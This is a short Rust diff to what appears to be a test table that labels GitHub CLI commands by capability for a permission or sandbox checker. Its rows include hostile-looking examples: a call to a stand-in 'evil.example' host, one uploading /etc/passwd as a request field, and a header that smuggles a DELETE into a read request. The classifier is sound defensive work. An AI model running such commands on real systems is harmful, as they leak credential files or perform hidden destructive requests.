@@ -395,7 +395,7 @@ pub(super) const TABLE: &[Spec] =
         ("gh api graphql -f query='mutation { x }'", "network-write"),
         ("gh api graphql -F query=@q.graphql", "network-read reads sends-data unknown"),
         ("gh api -X GET x -F a=@/etc/passwd", "network-read reads sends-data"),
-        ("gh api https://evil.example/x", "network-read"),
+        ("gh api https://evil.example/x", "network-read sends-data"),
         ("gh api -H 'X-HTTP-Method-Override: DELETE' repos/a/b", "network-read unknown"),
         ("gh browse -n", "reads"),
         ("gh browse src", "reads network-read"),
